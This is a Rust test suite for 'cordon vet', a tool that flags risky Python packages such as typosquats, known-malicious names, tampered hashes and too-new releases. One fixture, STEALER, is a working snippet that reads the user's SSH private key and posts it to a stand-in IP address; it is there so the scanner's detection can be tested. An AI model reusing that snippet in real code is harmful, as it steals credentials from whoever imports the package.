//! `cordon vet` end to end against the loopback index of the harness (reached as
//! `http://example.com/simple` through its proxy, the way uv reaches it too), with the real
//! pinned uv resolving dependencies, and against small misbehaving servers on 127.0.0.1 (one
//! that hangs, one that answers HTML, one that cuts a download short).

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::Output;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::harness::{IndexServer, PackageSpec, VersionSpec, uv_env, uv_path};

/// The moment the tests judge ages from.
const NOW: &str = "2026-06-10T00:00:00Z";
/// Two days before [`NOW`].
const TWO_DAYS_OLD: &str = "2026-06-08T00:00:00Z";

/// `__init__.py` of a package that sends the user's SSH key away when imported.
const STEALER: &str = "import os, urllib.request\n\
    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
    urllib.request.urlopen('http://203.0.113.9/c', data=key.encode())\n";

fn scenarios() -> Vec<PackageSpec> {
    let v = VersionSpec::new;
    vec![
        PackageSpec::new(
            "alpha",
            vec![
                v("0.9").yanked("broken build"),
                v("1.0").provenance(json!({
                    "version": 1,
                    "attestation_bundles": [{
                        "publisher": {"kind": "GitHub", "repository": "alpha-dev/alpha", "workflow": "release.yml"},
                        "attestations": []
                    }]
                })),
            ],
        ),
        PackageSpec::new("fresh", vec![v("1.0").uploaded(TWO_DAYS_OLD)]),
        PackageSpec::new("steady", vec![v("1.0"), v("2.0").uploaded(TWO_DAYS_OLD)]),
        PackageSpec::new("held", vec![v("1.0")]).status("quarantined", Some("malware")),
        PackageSpec::new("old-thing", vec![v("1.0")]).status("archived", Some("no longer maintained")),
        PackageSpec::new("numpyy", vec![v("1.0")]),
        PackageSpec::new("evil-pkg", vec![v("1.0")]),
        PackageSpec::new("wrapper", vec![v("1.0").requires(&["evil-pkg>=1.0"])]),
        PackageSpec::new("tampered", vec![v("1.0").wrong_hash()]),
        PackageSpec::new(
            "stealer",
            vec![v("1.0").code(&[("stealer/__init__.py", STEALER)])],
        ),
    ]
}

/// Imports popular names and a malicious-package record for `evil-pkg` into `dir/cache`.
fn load_reference_data(dir: &Path) {
    std::fs::write(
        dir.join("top.json"),
        r#"{"rows":[{"project":"requests"},{"project":"numpy"},{"project":"pandas"},{"project":"alpha"}]}"#,
    )
    .unwrap();
    std::fs::write(
        dir.join("MAL-2026-7.json"),
        r#"{"id":"MAL-2026-7","affected":[{"package":{"ecosystem":"PyPI","name":"evil-pkg"},"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"0"}]}]}]}"#,
    )
    .unwrap();
    let out = assert_cmd::Command::cargo_bin("cordon")
        .unwrap()
        .current_dir(dir)
        .env_clear()
        .env("HOME", dir)
        .env("CORDON_CACHE_DIR", dir.join("cache"))
        .args(["intel", "import", "top.json", "MAL-2026-7.json"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// `cordon vet ARGS` in `dir` with the harness's environment for `index` (its proxy, uv's
/// default index, a private home), the pinned uv as `CORDON_UV`, and `dir/cache` as cache.
fn vet_with(index: &IndexServer, dir: &Path, args: &[&str]) -> Output {
    assert_cmd::Command::cargo_bin("cordon")
        .unwrap()
        .current_dir(dir)
        .env_clear()
        .envs(uv_env(index))
        .env("CORDON_UV", uv_path())
        .env("CORDON_CACHE_DIR", dir.join("cache"))
        .env("CORDON_NOW", NOW)
        .arg("vet")
        .args(args)
        .output()
        .unwrap()
}

/// Runs with `--format json`; returns the exit code, the report and stderr.
fn vet_json(index: &IndexServer, dir: &Path, args: &[&str]) -> (i32, Value, String) {
    let mut all = vec!["--format", "json"];
    all.extend_from_slice(args);
    let out = vet_with(index, dir, &all);
    decode(&out)
}

fn decode(out: &Output) -> (i32, Value, String) {
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(!stderr.contains("panicked"), "{stderr}");
    let report: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}\n{stderr}",
            String::from_utf8_lossy(&out.stdout)
        )
    });
    (out.status.code().unwrap(), report, stderr)
}

fn package<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == name)
        .unwrap_or_else(|| panic!("no {name} in {report:#}"))
}

fn reason<'a>(p: &'a Value, id: &str) -> Option<&'a Value> {
    p["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["id"] == id)
}

fn ids(p: &Value) -> Vec<&str> {
    p["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_str().unwrap())
        .collect()
}

#[test]
fn a_healthy_package_is_allowed_and_the_index_comes_from_uv() {
    let index = IndexServer::start(scenarios());
    let tmp = tempfile::tempdir().unwrap();
    load_reference_data(tmp.path());
    // No --index-url: uv is asked which index it would use (UV_DEFAULT_INDEX here).
    let (code, report, err) = vet_json(&index, tmp.path(), &["alpha"]);
    assert_eq!(code, 0, "{report:#}\n{err}");
    assert_eq!(report["command"], "vet");
    assert_eq!(report["packages"].as_array().unwrap().len(), 1);
    let alpha = package(&report, "alpha");
    assert_eq!(alpha["verdict"], "allow", "{alpha:#}");
    assert_eq!(alpha["version"], "1.0");
    assert!(alpha["required_by"].is_null());
    let provenance = reason(alpha, "provenance").expect("the publisher is named");
    assert!(
        provenance["message"]
            .as_str()
            .unwrap()
            .contains("GitHub alpha-dev/alpha (release.yml)"),
        "{provenance:#}"
    );
    let requests = index.requests();
    for wanted in [
        "GET http://example.com/simple/alpha/",
        "GET http://example.com/files/alpha-1.0-py3-none-any.whl",
        "GET http://example.com/integrity/alpha-1.0-py3-none-any.whl/provenance",
    ] {
        assert!(
            requests.iter().any(|r| r == wanted),
            "{wanted} not in {requests:#?}"
        );
    }
}

#[test]
fn a_yanked_release_asked_for_is_review_and_strict_fails_on_it() {
    let index = IndexServer::start(scenarios());
    let tmp = tempfile::tempdir().unwrap();
    let (code, report, _) = vet_json(&index, tmp.path(), &["alpha==0.9", "--no-deps"]);
    assert_eq!(code, 0);
    let alpha = package(&report, "alpha");
    assert_eq!(alpha["verdict"], "review");
    let yanked = reason(alpha, "release-yanked").expect("yanked");
    assert!(yanked["message"].as_str().unwrap().contains("broken build"));
    assert!(reason(alpha, "provenance-missing").is_some());

    let (code, _, _) = vet_json(&index, tmp.path(), &["alpha==0.9", "--no-deps", "--strict"]);
    assert_eq!(code, 1, "--strict fails on review");
}

#[test]
fn a_missing_name_is_blocked_with_the_nearest_real_names() {
    let index = IndexServer::start(scenarios());
    let tmp = tempfile::tempdir().unwrap();
    load_reference_data(tmp.path());
    let (code, report, _) = vet_json(&index, tmp.path(), &["reqests", "alpha==7.0"]);
    assert_eq!(code, 1);
    let missing = package(&report, "reqests");
    assert_eq!(missing["verdict"], "block");
    let r = reason(missing, "package-not-found").expect("not found");
    assert!(
        r["message"]
            .as_str()
            .unwrap()
            .contains("hallucinated or mistyped"),
        "{r:#}"
    );
    assert!(
        r["help"].as_str().unwrap().contains("`requests` (#1)"),
        "{r:#}"
    );
    let alpha = package(&report, "alpha");
    assert_eq!(alpha["verdict"], "block");
    assert!(reason(alpha, "version-not-found").is_some(), "{alpha:#}");
    // Nothing to resolve for either: uv was never asked to.
    assert_eq!(report["packages"].as_array().unwrap().len(), 2);
}

#[test]
fn a_release_two_days_old_is_review_and_an_older_one_is_chosen_when_there_is_one() {
    let index = IndexServer::start(scenarios());
    let tmp = tempfile::tempdir().unwrap();
    let (code, report, _) = vet_json(&index, tmp.path(), &["fresh", "steady"]);
    assert_eq!(code, 0);
    let fresh = package(&report, "fresh");
    assert_eq!(fresh["verdict"], "review", "{fresh:#}");
    let too_new = reason(fresh, "release-too-new").expect("too new");
    assert!(
        too_new["message"]
            .as_str()
            .unwrap()
            .contains("uploaded 2 days ago, inside the cooldown (7 days)"),
        "{too_new:#}"
    );
    assert!(reason(fresh, "project-too-new").is_some());

    // Under the cooldown uv installs 1.0; 2.0 is named as held back.
    let steady = package(&report, "steady");
    assert_eq!(steady["verdict"], "allow", "{steady:#}");
    assert_eq!(steady["version"], "1.0");
    assert!(reason(steady, "newer-release-held-back").is_some());

    let out = vet_with(
        &index,
        tmp.path(),
        &["steady==2.0", "--no-deps", "--strict"],
    );
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.starts_with("review  steady 2.0\n"), "{text}");
    assert!(text.contains("release-too-new"), "{text}");
    assert!(!text.contains("resolution-failed"), "{text}");
    assert!(
        text.contains("= help: wait until the cooldown has passed"),
        "{text}"
    );
    assert!(
        text.ends_with("vetted 1 package: 0 block, 1 review, 0 allow\n"),
        "{text}"
    );
}

#[test]
fn quarantined_is_blocked_and_archived_is_review() {
    let index = IndexServer::start(scenarios());
    let tmp = tempfile::tempdir().unwrap();
    let (code, report, _) = vet_json(&index, tmp.path(), &["held", "old-thing", "--no-deps"]);
    assert_eq!(code, 1);
    let held = package(&report, "held");
    assert_eq!(held["verdict"], "block");
    let q = reason(held, "project-quarantined").expect("quarantined");
    assert!(
        q["message"]
            .as_str()
            .unwrap()
            .contains("quarantined: malware"),
        "{q:#}"
    );
    assert_eq!(
        ids(held),
        ["project-quarantined"],
        "no files, nothing else to say"
    );
    let old = package(&report, "old-thing");
    assert_eq!(old["verdict"], "review");
    assert!(reason(old, "project-archived").is_some());
}

#[test]
fn a_typosquat_is_review_and_a_known_malicious_name_is_blocked() {
    let index = IndexServer::start(scenarios());
    let tmp = tempfile::tempdir().unwrap();
    load_reference_data(tmp.path());
    let (code, report, _) = vet_json(&index, tmp.path(), &["numpyy", "evil-pkg", "--no-deps"]);
    assert_eq!(code, 1);
    let squat = package(&report, "numpyy");
    assert_eq!(squat["verdict"], "review");
    let t = reason(squat, "typosquat-suspect").expect("typosquat");
    assert!(
        t["message"]
            .as_str()
            .unwrap()
            .contains("looks like `numpy`, the #2"),
        "{t:#}"
    );
    let evil = package(&report, "evil-pkg");
    assert_eq!(evil["verdict"], "block");
    let m = reason(evil, "known-malicious").expect("malicious");
    assert!(
        m["message"].as_str().unwrap().contains("MAL-2026-7"),
        "{m:#}"
    );
}

#[test]
fn a_package_whose_dependency_is_malicious_is_blocked() {
    let index = IndexServer::start(scenarios());
    let tmp = tempfile::tempdir().unwrap();
    load_reference_data(tmp.path());
    let (code, report, err) = vet_json(&index, tmp.path(), &["wrapper"]);
    assert_eq!(code, 1, "{report:#}\n{err}");
    let wrapper = package(&report, "wrapper");
    assert_eq!(wrapper["verdict"], "block", "{wrapper:#}");
    let d = reason(wrapper, "dependency-blocked").expect("dependency");
    assert!(
        d["message"]
            .as_str()
            .unwrap()
            .contains("`evil-pkg 1.0`, judged block (known-malicious)"),
        "{d:#}"
    );
    let evil = package(&report, "evil-pkg");
    assert_eq!(evil["required_by"], "wrapper");
    assert_eq!(evil["verdict"], "block");
    // A package known to be malicious is not downloaded for a scan.
    let requests = index.requests();
    assert!(
        !requests
            .iter()
            .any(|r| r == "GET http://example.com/files/evil_pkg-1.0-py3-none-any.whl"),
        "{requests:#?}"
    );
}

#[test]
fn a_tampered_file_and_malicious_code_are_blocked() {
    let index = IndexServer::start(scenarios());
    let tmp = tempfile::tempdir().unwrap();
    let (code, report, _) = vet_json(&index, tmp.path(), &["tampered", "stealer", "--no-deps"]);
    assert_eq!(code, 1);
    let tampered = package(&report, "tampered");
    assert_eq!(tampered["verdict"], "block");
    assert!(
        reason(tampered, "artifact-hash-mismatch").is_some(),
        "{tampered:#}"
    );
    let stealer = package(&report, "stealer");
    assert_eq!(stealer["verdict"], "block", "{stealer:#}");
    let m = reason(stealer, "artifact-malicious").expect("scanned");
    assert!(
        m["message"]
            .as_str()
            .unwrap()
            .contains("stealer/__init__.py"),
        "{m:#}"
    );
    // A tampered file is never cached: the next run downloads (and refuses) it again.
    let cached = tmp.path().join("cache/artifacts/sha256");
    let count = std::fs::read_dir(&cached).map_or(0, Iterator::count);
    assert_eq!(count, 1, "only the stealer's verified wheel is cached");
}

#[test]
fn offline_uses_the_cache_only() {
    let index = IndexServer::start(scenarios());
    let tmp = tempfile::tempdir().unwrap();
    let (code, online, _) = vet_json(&index, tmp.path(), &["alpha", "--no-deps"]);
    assert_eq!(code, 0);
    let before = index.requests().len();
    let (code, offline, _) = vet_json(&index, tmp.path(), &["alpha", "--no-deps", "--offline"]);
    assert_eq!(code, 0);
    assert_eq!(index.requests().len(), before, "offline asked the index");
    assert_eq!(online["packages"], offline["packages"]);

    let (code, report, _) = vet_json(&index, tmp.path(), &["fresh", "--no-deps", "--offline"]);
    assert_eq!(code, 0);
    let fresh = package(&report, "fresh");
    assert_eq!(fresh["verdict"], "review");
    let r = reason(fresh, "index-unavailable").expect("not cached");
    assert!(
        r["help"].as_str().unwrap().contains("without `--offline`"),
        "{r:#}"
    );
}

#[test]
fn bad_requests_are_usage_errors() {
    let index = IndexServer::start(scenarios());
    let tmp = tempfile::tempdir().unwrap();
    for bad in ["numpy>=1.0", "numpy==", "./local.whl"] {
        let out = vet_with(&index, tmp.path(), &[bad]);
        assert_eq!(out.status.code(), Some(2), "{bad}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("give `NAME` or `NAME==VERSION`"), "{err}");
    }
}

/// A server on 127.0.0.1 that answers every request with `respond(path)` (raw bytes, written
/// as they are), or never answers when it returns `None`. Runs until the test ends.
fn raw_server(respond: fn(&str, u16) -> Option<Vec<u8>>) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            std::thread::spawn(move || {
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut line = String::new();
                let _ = reader.read_line(&mut line);
                let path = line.split_whitespace().nth(1).unwrap_or("/").to_owned();
                loop {
                    let mut header = String::new();
                    if reader.read_line(&mut header).unwrap_or(0) == 0 || header == "\r\n" {
                        break;
                    }
                }
                if let Some(bytes) = respond(&path, port) {
                    let _ = stream.write_all(&bytes);
                } else {
                    // Hang: hold the connection open, answer nothing.
                    let mut sink = [0u8; 1];
                    let _ = stream.set_read_timeout(Some(Duration::from_mins(1)));
                    let _ = stream.read(&mut sink);
                }
            });
        }
    });
    port
}

/// `cordon vet` straight at `http://127.0.0.1:PORT/simple`, no proxy, no uv.
fn vet_direct(port: u16, args: &[&str]) -> (i32, Value, String, Duration) {
    let tmp = tempfile::tempdir().unwrap();
    let url = format!("http://127.0.0.1:{port}/simple");
    let start = Instant::now();
    let out = assert_cmd::Command::cargo_bin("cordon")
        .unwrap()
        .current_dir(tmp.path())
        .env_clear()
        .env("HOME", tmp.path())
        .env("CORDON_CACHE_DIR", tmp.path().join("cache"))
        .env("CORDON_NOW", NOW)
        .args(["vet", "--format", "json", "--no-deps", "--index-url", &url])
        .args(args)
        .output()
        .unwrap();
    let elapsed = start.elapsed();
    let (code, report, err) = decode(&out);
    (code, report, err, elapsed)
}

#[test]
fn a_server_that_hangs_is_a_reason_not_a_hang() {
    let port = raw_server(|_, _| None);
    let (code, report, _, elapsed) = vet_direct(port, &["alpha", "--timeout", "2"]);
    assert_eq!(code, 0);
    let alpha = package(&report, "alpha");
    assert_eq!(alpha["verdict"], "review");
    let r = reason(alpha, "index-unavailable").expect("unavailable");
    assert!(
        r["message"].as_str().unwrap().contains("timed out"),
        "{r:#}"
    );
    assert!(elapsed < Duration::from_secs(20), "took {elapsed:?}");
}

#[test]
fn an_index_that_answers_html_is_named_as_such() {
    let port = raw_server(|_, _| {
        let body = "<html><body><a href=\"a.whl\">a.whl</a></body></html>";
        Some(
            format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\
                 Connection: close\r\n\r\n{body}",
                body.len()
            )
            .into_bytes(),
        )
    });
    let (_, report, _, _) = vet_direct(port, &["alpha"]);
    let alpha = package(&report, "alpha");
    assert_eq!(alpha["verdict"], "review");
    let r = reason(alpha, "index-unavailable").expect("html");
    assert!(
        r["message"]
            .as_str()
            .unwrap()
            .contains("answered `text/html`, not the JSON simple API"),
        "{r:#}"
    );
}

#[test]
fn a_download_cut_short_is_a_reason() {
    let port = raw_server(|path, port| {
        if path.starts_with("/simple/") {
            let body = json!({
                "meta": {"api-version": "1.1"},
                "name": "alpha",
                "files": [{
                    "filename": "alpha-1.0-py3-none-any.whl",
                    "url": format!("http://127.0.0.1:{port}/files/alpha-1.0-py3-none-any.whl"),
                    "hashes": {"sha256": "0".repeat(64)},
                    "upload-time": "2024-01-02T03:04:05Z"
                }]
            })
            .to_string();
            Some(
                format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: application/vnd.pypi.simple.v1+json\r\n\
                     Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                )
                .into_bytes(),
            )
        } else if path.starts_with("/files/") {
            Some(
                b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\
                  Content-Length: 5000\r\nConnection: close\r\n\r\nPK\x03\x04only a little"
                    .to_vec(),
            )
        } else {
            Some(
                b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                    .to_vec(),
            )
        }
    });
    let (code, report, _, _) = vet_direct(port, &["alpha"]);
    assert_eq!(code, 0);
    let alpha = package(&report, "alpha");
    assert_eq!(alpha["verdict"], "review", "{alpha:#}");
    let r = reason(alpha, "artifact-unavailable").expect("cut short");
    assert!(
        r["message"].as_str().unwrap().contains("cut short"),
        "{r:#}"
    );
}

#[test]
fn a_refused_connection_is_a_reason() {
    // Bind, note the port, close: nothing listens there any more.
    let port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let (code, report, _, _) = vet_direct(port, &["alpha", "--timeout", "5"]);
    assert_eq!(code, 0);
    let alpha = package(&report, "alpha");
    assert_eq!(alpha["verdict"], "review");
    let r = reason(alpha, "index-unavailable").expect("refused");
    assert!(r["message"].as_str().unwrap().contains("refused"), "{r:#}");
}

#[test]
fn sarif_names_each_reason_as_a_rule() {
    let index = IndexServer::start(scenarios());
    let tmp = tempfile::tempdir().unwrap();
    load_reference_data(tmp.path());
    let out = vet_with(
        &index,
        tmp.path(),
        &["evil-pkg", "--no-deps", "--format", "sarif"],
    );
    assert_eq!(out.status.code(), Some(1));
    let sarif: Value = serde_json::from_slice(&out.stdout).unwrap();
    let run = &sarif["runs"][0];
    let rules: Vec<&str> = run["tool"]["driver"]["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"package-not-found"), "{rules:?}");
    let results = run["results"].as_array().unwrap();
    assert!(
        results.iter().any(|r| r["ruleId"] == "known-malicious"),
        "{results:#?}"
    );
}
